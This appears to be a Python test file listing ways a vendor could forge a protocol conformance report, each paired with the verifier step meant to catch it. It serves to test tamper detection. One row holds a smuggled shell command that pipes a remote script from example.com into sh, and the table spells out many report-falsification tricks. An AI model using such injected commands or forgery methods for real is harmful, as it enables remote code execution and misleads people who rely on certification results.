"""The table of forgeries: what a vendor might do to a report, and the step of `verify` that catches it.

A thorough forger computes everything again that follows from the change and seals the report. `None` as the step: the
forgery can't be seen offline, and the notes of `verify` say so.
"""

from __future__ import annotations

import gzip
import json
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from ext_proc.messages import ProcessingRequest
from ext_proc.protocol import SUBSET
from forging.forger import Forger, Json, copied

EPP, BAD_EPP, GATEWAY, BAD_GATEWAY = "epp", "bad-epp", "gateway", "bad-gateway"
Change = Callable[[Forger], object]


@dataclass(frozen=True, kw_only=True)
class Forgery:
    """`change` is done to the report `of`; `step` fails, or is `unknown`.

    `again`: the suite's judges judge the forged evidence first, so that every result follows from it.
    """

    name: str
    of: str
    change: Change
    step: str | None
    sums: bool = True
    seal: bool = True
    unknown: bool = False
    again: bool = False


FORGERIES: list[Forgery] = []


def forgeries(reports: str, step: str | None, changes: dict[str, Change], **how: Any) -> None:
    """Add rows to the table, for each of these reports."""
    FORGERIES.extend(
        Forgery(name=f"{name} ({of})", of=of, change=change, step=step, **how)
        for name, change in changes.items()
        for of in reports.split()
    )


def forgery(reports: str, step: str | None, **how: Any) -> Callable[[Change], Change]:
    """Add the function below to the table."""

    def add(change: Change) -> Change:
        forgeries(reports, step, {change.__name__.replace("_", " "): change}, **how)
        return change

    return add


def failing(f: Forger) -> list[Json]:
    return [row for row in f.rows if any(one["verdict"] == "fail" for one in row["findings"])]


def put(path: str, value: object) -> Change:
    """A value in the report."""

    def change(f: Forger) -> None:
        *place, last = path.split(".")
        inner: Any = f.report
        for name in place:
            inner = inner[int(name) if name.isdigit() else name]
        inner[last] = value

    return change


def row_with(which: Callable[[Json], bool], **fields: object) -> Change:
    """Fields of the first result that `which` is true of."""
    return lambda f: f.row(which).update(fields)


def each_failing(do: Callable[[Forger, Json], object]) -> Change:
    return lambda f: [do(f, row) for row in failing(f)]


def whitened(change: Callable[[Forger, Json], object]) -> Change:
    """A change of each failing result, which passes then."""
    return each_failing(lambda f, row: (change(f, row), f.whiten(row)))


def excused(verdict: str, reason: str, **how: bool) -> Change:
    return each_failing(lambda f, row: f.excuse(row, verdict, reason, **how))


def context(**fields: object) -> Change:
    """Fields of the context of an episode that passed."""
    return lambda f: f.episode(f.verdict("pass"))["context"].update(fields)


def entry(place: int, **fields: object) -> Change:
    """Fields of an entry of an episode that passed."""
    return lambda f: f.episode(f.verdict("pass"))["entries"][place].update(fields)


def passes(row: Json) -> bool:
    return row["verdict"] == "pass"


def left_out(row: Json) -> bool:
    return row["verdict"] == "notApplicable" and not row["evidence"]


# -- results left out, or added ----------------------------------------------------------------------------------------


def added(**fields: object) -> Change:
    return lambda f: f.rows.append({**copied(f.verdict("pass")), "evidence": None, **fields})


@forgery(BAD_EPP, step="plan")
def the_only_version_is_left_out(f):
    f.report["versions"] = []
    f.rows.clear()
    f.episodes.clear()


forgeries(f"{BAD_EPP} {BAD_GATEWAY}", "plan", {
    "every result but one is left out": lambda f: [f.drop(row) for row in f.rows[1:]],
    "failing results are left out with their episodes": each_failing(lambda f, row: f.drop(row)),
    "failing results are left out, their episodes stay": each_failing(lambda f, row: f.drop(row, evidence=False)),
})  # fmt: skip
forgeries(f"{EPP} {GATEWAY}", "plan", {
    "a passing result is left out": lambda f: f.drop(f.verdict("pass")),
    "a result is there twice": lambda f: f.rows.append(copied(f.rows[0])),
})  # fmt: skip
forgeries(EPP, "plan", {
    "a result that did not apply is left out": lambda f: f.drop(f.verdict("notApplicable")),
    "a result of an unknown scenario": added(id="subset.made-up", scenario="subset.made-up"),
    "a result of the other role": added(id="gateway.asks-about-head[http=1]", scenario="gateway.asks-about-head"),
})  # fmt: skip
forgeries(EPP, "requirements", {
    "a requirement is left out": lambda f: f.report["requirements"].pop(),
    "a requirement is there twice": lambda f: f.report["requirements"].append(copied(f.report["requirements"][0])),
}, sums=False)  # fmt: skip

# -- verdicts ----------------------------------------------------------------------------------------------------------


def others(f: Forger, row: Json) -> None:
    row["requirements"] = f.episode(row)["context"]["requirements"] = ["EPP-DEST-01"]


def provisional(f: Forger, row: Json) -> None:
    row["provisional"] = f.episode(row)["context"]["provisional"] = True


def warned(_: Forger, row: Json) -> None:
    for one in row["findings"]:
        one["verdict"] = "warn" if one["verdict"] == "fail" else one["verdict"]
    row["verdict"] = "warn"


def unfound(_: Forger, row: Json) -> None:
    row["findings"] = [one for one in row["findings"] if one["verdict"] != "fail"]
    row.update(verdict="pass", reason="")


def failure_with(**fields: str) -> Change:
    """The first failure, with other words in it."""

    def change(f: Forger) -> None:
        row = f.verdict("fail")
        for one in (one for one in row["findings"] if one["verdict"] == "fail"):
            one.update(fields)

    return change


@forgery(f"{EPP} {GATEWAY}", step="judgement")
def a_pass_without_evidence(f):
    row = f.verdict("pass")
    del f.episodes[row["evidence"]]
    row["evidence"] = None


@forgery(EPP, step="judgement")
def an_additional_pass(f):
    f.row(lambda row: passes(row) and "EPP-HLTH-01" not in row["passed"])["passed"].append("EPP-HLTH-01")


forgeries(f"{BAD_EPP} {BAD_GATEWAY}", "judgement", {
    "failures become passes": each_failing(lambda f, row: f.whiten(row)),
    "failures did not apply": excused("notApplicable", "the profile does not claim it"),
    "failures were skipped": excused("skipped", "this target can't be asked that"),
    "failures are provisional": each_failing(lambda _, row: row.update(provisional=True)),
})  # fmt: skip
forgeries(BAD_EPP, "judgement", {
    "failures were inconclusive": excused("inconclusive", "the run was ended before its turn"),
    "failures are harness errors": excused("error", "TimeoutError: the machine was busy", evidence=True),
    "failures are attested": excused("attested", "our word"),
    "failures are provisional in their context too": each_failing(provisional),
    "failing scenarios are about other requirements": whitened(others),
    "failing scenarios are off contract": whitened(
        lambda f, row: f.episode(row)["context"].update(stimulus="off-contract")
    ),
    "findings are dropped": each_failing(unfound),
    "failures become warnings": each_failing(warned),
    "a failure in other words": failure_with(actual="nearly right"),
    "a failure with another hint": failure_with(hint="a defect of the suite"),
    "a failure with a reason": lambda f: f.verdict("fail").update(reason="known, and fixed in the next release"),
})  # fmt: skip
forgeries(EPP, "judgement", {
    "a result that did not apply passed": row_with(left_out, verdict="pass"),
    "a result that did not apply has another reason": row_with(left_out, reason="we are better"),
    "another source": row_with(passes, source="scenarios/other.yaml:1"),
    "another section": row_with(lambda row: passes(row) and row["section"] != "errors", section="errors"),
    "another body mode": row_with(lambda row: row["mode"] == "full-duplex", mode="buffered"),
    "another scenario in the smoke set": row_with(lambda row: not row["smoke"], smoke=True),
})  # fmt: skip

forgeries(f"{EPP} {GATEWAY}", "judgement", {
    "another title": row_with(passes, title="Certified by the committee"),
})  # fmt: skip

# -- conversations -----------------------------------------------------------------------------------------------------


@forgery(f"{BAD_EPP} {BAD_GATEWAY}", step="judgement")
def the_conversation_of_a_passing_scenario(f):
    """With the context of the scenario that failed."""
    bad = failing(f)[0]
    good = f.row(lambda one: one is not bad and passes(one) and one["evidence"])
    made = {**copied(f.episode(good)), "context": f.episode(bad)["context"]}
    del f.episodes[bad["evidence"]]
    f.episodes["f" * 64] = made
    for name in ("verdict", "findings", "passed", "notApplicable", "reason"):
        bad[name] = copied(good[name])
    bad["evidence"] = "f" * 64


@forgery(EPP, step="evidence")
def two_results_with_one_episode(f):
    first, second = [row for row in f.rows if row["evidence"]][:2]
    del f.episodes[second["evidence"]]
    second["evidence"] = copied(first["evidence"])


@forgery(EPP, step="evidence")
def an_episode_without_a_result(f):
    f.episodes["0" * 64] = {**copied(f.episodes[next(iter(f.episodes))]), "episode": "another"}


def without_failing_exchanges(f: Forger, row: Json, **ending: object) -> None:
    """Leave the failing exchanges out, count the others again, and end with an event that explains the gap."""
    episode = f.episode(row)
    bad = {one["exchange"] for one in row["findings"] if one["verdict"] == "fail"}
    entries = [one for one in episode["entries"] if one.get("exchange") not in bad]
    own = [one["exchange"] for one in entries if one.get("exchange", "").startswith(f"{episode['episode']}.")]
    names = {old: f"{episode['episode']}.{number}" for number, old in enumerate(dict.fromkeys(own), 1)}
    for one in entries:
        if one.get("exchange") in names:
            one["exchange"] = names[one["exchange"]]
    expectations = episode["context"].get("expectations", {})
    episode["context"]["expectations"] = {names[old]: one for old, one in expectations.items() if old in names}
    last = entries[-1]
    episode["entries"] = [*entries, *([{"seq": last["seq"] + 1, "t": last["t"], **ending}] if ending else [])]


@forgery(EPP, step="judgement")
def an_answered_exchange_hung_and_the_rest_is_left_out(f):
    def several(row: Json) -> bool:
        opened = row["evidence"] and [one for one in f.episode(row)["entries"] if one["kind"] == "exchange-opened"]
        return bool(opened) and len(opened) > 1 and passes(row)

    episode = f.episode(f.row(several))
    first = f"{episode['episode']}.1"
    episode["entries"] = [one for one in episode["entries"] if one.get("exchange") in (None, first)]
    expectations = episode["context"].get("expectations", {})
    episode["context"]["expectations"] = {name: one for name, one in expectations.items() if name == first}
    last = episode["entries"][-1]
    wait = {"kind": "wait", "exchange": first, "what": "answer to request_headers", "outcome": "expired"}
    episode["entries"].append({"seq": last["seq"] + 1, "t": last["t"], **wait})


@forgery(EPP, step="judgement")
def a_pool_change_without_an_end(f):
    changing = f.row(
        lambda row: row["evidence"] and sum(one["kind"] == "pool" for one in f.episode(row)["entries"]) > 3
    )
    entries = f.episode(changing)["entries"]
    entries.remove([one for one in entries if one["kind"] == "pool" and one["phase"] == "effective"][-1])


def only(which: Callable[[Json], bool]) -> Callable[[Forger, Json], None]:
    """An episode keeps these entries only."""

    def change(f: Forger, row: Json) -> None:
        f.episode(row)["entries"] = [one for one in f.episode(row)["entries"] if which(one)]

    return change


def expecting(f: Forger) -> Json:
    """The context of an episode with expectations."""
    return f.episode(f.row(lambda one: one["evidence"] and f.episode(one)["context"].get("expectations")))["context"]


@forgery(EPP, step="judgement")
def an_expectation_is_loosened(f):
    for expectation in expecting(f)["expectations"].values():
        expectation.clear()
        expectation["answer"] = ["any"]


@forgery(EPP, step="judgement")
def a_subset_hint_with_more_endpoints(f):
    entries = f.episode(f.row(lambda one: one["scenario"] == "subset.pick-stays-inside"))["entries"]
    endpoints = {pod["endpoints"][0] for one in entries if one["kind"] == "pool" for pod in one["pods"]}
    for one in entries:
        if one["kind"] == "message" and one["author"] == "data-plane" and "latin1" in one["raw"]:
            message = ProcessingRequest.FromString(one["raw"]["latin1"].encode("latin1"))
            for namespace in message.metadata_context.filter_metadata.values():
                hint = namespace.fields[SUBSET].list_value.values
                hint.add(string_value=min(endpoints.difference(item.string_value for item in hint)))
            one["raw"]["latin1"] = message.SerializeToString().decode("latin1")


def pools(f: Forger, row: Json) -> list[Json]:
    return [one for one in f.episode(row)["entries"] if one["kind"] == "pool"] if row["evidence"] else []


@forgery(f"{EPP} {GATEWAY}", step="judgement")
def a_smaller_pool(f):
    state = pools(f, f.row(lambda one: bool(pools(f, one))))[0]
    state["pods"] = state["pods"][:1]


@forgery(f"{EPP} {GATEWAY}", step="judgement")
def two_pods_exchange_their_endpoints(f):
    """In all pool states; the picks stay."""
    row = f.row(lambda one: passes(one) and bool(pools(f, one)) and len(pools(f, one)[0]["pods"]) > 1)
    first, second = (fact["endpoints"][0] for fact in pools(f, row)[0]["pods"][:2])
    for one in pools(f, row):
        one.update(json.loads(json.dumps(one).replace(first, "?").replace(second, first).replace("?", second)))


@forgery(EPP, step="judgement")
def a_response_too_large_for_envoy(f):
    response = next(e for e in f.episode(f.verdict("pass"))["entries"] if e["kind"] == "client-response")
    response.update(status=500, details="response_payload_too_large")


@forgery(EPP, step="judgement")
def entries_out_of_order(f):
    entries = f.episode(f.verdict("pass"))["entries"]
    entries[-1]["seq"], entries[-2]["seq"] = entries[-2]["seq"], entries[-1]["seq"]


@forgery(BAD_EPP, step="judgement")
def the_harness_is_blamed(f):
    for row in failing(f):
        entries = f.episode(row)["entries"]
        unmet = {"kind": "unmet", "what": "no pod", "verdict": "skipped"}
        entries.append({"seq": entries[-1]["seq"] + 1, "t": entries[-1]["t"], **unmet})
        f.excuse(row, "skipped", "no pod", evidence=True)


@forgery(EPP, step="evidence")
def a_value_for_terabytes(f):
    message = next(e for row in f.rows if row["evidence"] for e in f.episode(row)["entries"] if e["kind"] == "message")
    message["raw"] = {"parts": [{"repeat": "x", "size": 10**15}]}


def raw(evidence: bytes) -> Change:
    return lambda f: setattr(f, "raw_evidence", evidence)


forgeries(BAD_EPP, "judgement", {
    "failing exchanges are cut out": whitened(without_failing_exchanges),
    "failing exchanges are cut out, and a wait ran out": whitened(
        lambda f, row: without_failing_exchanges(f, row, kind="wait", what="quiet", outcome="expired")
    ),
    "failing exchanges are cut out, and the target was restarted": whitened(
        lambda f, row: without_failing_exchanges(f, row, kind="process-exited", pid=7, code=0, asked=True)
    ),
    "the messages of the EPP are cut out": whitened(only(lambda one: one.get("author") != "epp")),
})  # fmt: skip
forgeries(f"{EPP} {GATEWAY}", "judgement", {"the deadline of one episode is longer": context(deadline=600.0)})
forgeries(EPP, "judgement", {
    "an episode without its pool": lambda f: only(lambda one: one["kind"] != "pool")(f, f.verdict("pass")),
    "an expectation is left out": lambda f: expecting(f).pop("expectations"),
    "the claims of one episode are others": context(claims={"queues": True}),
    "the namespace of one episode is another": context(destination_namespace="envoy.other"),
    "an episode of another version": context(version="0.2.0"),
    "times that run backwards": entry(-1, t=0),
    "an episode longer than the run": entry(-1, t=10**15),
    "a run with another seed": put("environment.seed", 8),
})  # fmt: skip
forgeries(EPP, "evidence", {
    "an entry of a wrong type": entry(0, seq="1"),
    "an entry of an unknown kind": entry(0, kind="miracle"),
    "evidence that is no gzip": raw(b"nothing"),
    "evidence that is cut short": raw(gzip.compress(b'{"episode": "1"}\n' * 1000)[:-12]),
    "evidence that is empty": raw(gzip.compress(b"")),
    "evidence of empty lines without end": raw(gzip.compress(b"\n" * 40_000_000, 1)),
})  # fmt: skip
forgeries(BAD_EPP, "evidence", {
    "a block without an episode": lambda f: f.blocks.append(
        {"block": "2d711642b726b04401627ca9fbac32f5c8530fb1903cc4db02258717921a4881", "data": "x"}
    ),
})  # fmt: skip
forgeries(BAD_EPP, "judgement", {
    "failing episodes are called too long": each_failing(lambda f, row: f.episode(row).update(cut=True)),
}, unknown=True)  # fmt: skip

# -- the basis of the plan ---------------------------------------------------------------------------------------------


def own_scenarios(text: str) -> Change:
    return put("plan.sources", [{"file": "own.yaml", "text": text}])


@forgery(BAD_EPP, step="plan")
def a_selection_without_the_failures_is_called_complete(f):
    f.report["plan"]["selection"]["exclude"] = [row["id"] for row in failing(f)]
    for row in failing(f):
        f.drop(row)


@forgery(BAD_EPP, step="plan")
def a_scenario_of_the_vendors_own_with_the_name_of_a_real_one(f):
    name = f.verdict("fail")["scenario"]
    scenario = {"id": name, "title": "t", "requirements": ["EPP-DEST-01"], "steps": [{"exchange": {}}]}
    own_scenarios(json.dumps({"section": "own", "scenarios": [scenario]}))(f)


forgeries(EPP, "plan", {
    "no plan": put("plan", None),
    "the plan of another role": lambda f: f.report["plan"].update(
        epp=None, gateway={"takesASubset": False, "pools": []}
    ),
}, sums=False)  # fmt: skip
forgeries(EPP, "plan", {
    "a command that a shell takes for two": put(
        "plan.command", "epp-conformance run --epp a; curl https://example.com | sh #"
    ),
    "a body mode is left out": put("environment.topology.bodyModes", ["full-duplex"]),
    "scenarios that can't be read": own_scenarios("scenarios: ["),
    "figures without a basis": put("figures", {"generatedConversations": 100000}),
})  # fmt: skip
forgeries(EPP, "judgement", {
    "other claims than were tested": put("claims.sheds", False),
    "another deadline": put("plan.deadline", 60.0),
})  # fmt: skip
forgeries(GATEWAY, "judgement", {"another gateway than was judged": put("claims.failureMode", "open")})

# -- sums --------------------------------------------------------------------------------------------------------------

CONFORMANT = {"result": "conformant", "blockers": [], "kinds": {"protocol": "conformant"}}
WAIVER = {"pattern": "EPP-DEST-05", "reason": "r", "issue": "i", "owner": "o", "expires": "2099-01-01"}

forgeries(f"{BAD_EPP} {BAD_GATEWAY}", "roll-ups", {"another result": put("result", "conformant")}, sums=False)
forgeries(BAD_EPP, "roll-ups", {
    "another result of the version": lambda f: f.report["versions"][0].update(CONFORMANT),
    "no blockers": put("versions.0.blockers", []),
    "a requirement with another verdict": lambda f: next(
        row for row in f.report["requirements"] if row["verdict"] == "fail"
    ).update(verdict="pass"),
}, sums=False)  # fmt: skip
forgeries(EPP, "roll-ups", {
    "other counts": put("versions.0.scenarioVerdicts.pass", 10_000),
    "a requirement of a lower level": put("requirements.0.level", "MAY"),
    "a requirement in other words": put("requirements.0.statement", "Anything goes."),
    "another fit for Envoy AI Gateway": lambda f: f.report["versions"][0]["envoyAiGateway"]["routing"][0].update(
        works="yes", why=""
    ),
    "complete although stopped": put("stopped", "the target went away"),
}, sums=False)  # fmt: skip
forgeries(EPP, "judgement", {
    "a gauge that is not followed": lambda f: f.row(lambda row: bool(row["gauges"]))["gauges"][0].update(followed="no"),
}, sums=False)  # fmt: skip
forgeries(EPP, "roll-ups", {
    "a run that ended before it began": put("finishedAt", "2001-01-01T00:00:00Z"),
    "a run in the future": lambda f: f.report.update(
        startedAt="2201-01-01T00:00:00Z", finishedAt="2201-01-01T00:00:10Z"
    ),
    "an invalid time": put("startedAt", "yesterday"),
    "another duration": put("duration", 0.001),
})  # fmt: skip
forgeries(BAD_EPP, "roll-ups", {
    "a waiver that matched something else": put("waivers", [
        {**WAIVER, "matched": ["destination.completion"], "problem": ""}
    ]),
})  # fmt: skip


def text_of(name: str, text: str) -> Change:
    return lambda f: f.texts.update({name: text})


@forgery(EPP, step="files", unknown=True)
def a_summary_of_another_release_of_the_suite(f):
    f.report["suite"]["version"] = "0.0.7"
    f.texts["summary.md"] = "# Said in other words\n"


forgeries(EPP, "files", {"another summary": text_of("summary.md", "# Certified\n")})
forgeries(BAD_EPP, "files", {
    "another JUnit file": text_of("junit.xml", "<testsuites/>"),
    "another page": text_of("report.html", "<!doctype html><title>✓ conformant</title>"),
})  # fmt: skip

# -- the file itself ---------------------------------------------------------------------------------------------------


def another_suite(f: Forger, do: Callable[[Forger, Json], object], **block: dict[str, str]) -> None:
    for name, fields in block.items():
        f.report[name].update(fields)
    each_failing(do)(f)


ONES = "sha256:" + "1" * 64
forgeries(EPP, "digest", {"a change without a seal": put("environment.platform.release", "1")}, seal=False, sums=False)
forgeries(EPP, "schema", {
    "an unknown field": put("comment", "trust me"),
    "a duration without end": put("duration", 10**400),
    "a wrong type": put("results.0.requirements", "EPP-DEST-01"),
}, sums=False)  # fmt: skip
forgeries(f"{EPP} {GATEWAY}", "schema", {
    "no result of the protocol": lambda f: f.report["versions"][0]["kinds"].pop("protocol"),
}, sums=False)  # fmt: skip
forgeries(EPP, "catalogue", {"another document": put("specification.digest", ONES)}, sums=False)
forgeries(EPP, "catalogue", {"another number for this catalogue": put("catalogue.version", "9.9.9")})
forgeries(BAD_EPP, "catalogue", {
    "an unknown catalogue": lambda f: another_suite(
        f, lambda f, row: f.whiten(row), catalogue={"version": "0.0.1", "digest": ONES}
    ),
    "unknown scenarios": lambda f: another_suite(f, lambda f, row: f.drop(row), catalogue={"scenarios": ONES}),
}, unknown=True)  # fmt: skip
forgeries(BAD_EPP, "judgement", {
    "a suite of another version": lambda f: another_suite(
        f, lambda f, row: f.whiten(row), suite={"version": "0.0.7"}
    ),
}, unknown=True)  # fmt: skip

# -- not visible offline -----------------------------------------------------------------------------------------------


def another_day(f: Forger) -> None:
    seconds = round(f.report["duration"])
    end = f"2025-01-01T00:{seconds // 60:02}:{seconds % 60:02}Z"
    f.report.update(startedAt="2025-01-01T00:00:00Z", finishedAt=end)


def another_set_up(f: Forger) -> None:
    f.report.update(mode="hardened", observed=True)
    f.report["environment"]["topology"].update(tls="verified", scrapes=False, connections=9)


forgeries(f"{EPP} {GATEWAY}", None, {
    "another name": lambda f: f.report["implementation"].update(
        project="better-epp", version="9.0", organization="Another Corp"
    ),
})  # fmt: skip
forgeries(EPP, None, {
    "another day": another_day,
    "another program": lambda f: f.report["subject"].update(name="better-epp", digest="sha256:" + "3" * 64),
    "another set-up": another_set_up,
    "an anomaly is left out": put("anomalies", []),
})  # fmt: skip
forgeries(BAD_EPP, None, {"a failing version is not claimed": put("versions.0.claimed", False)})
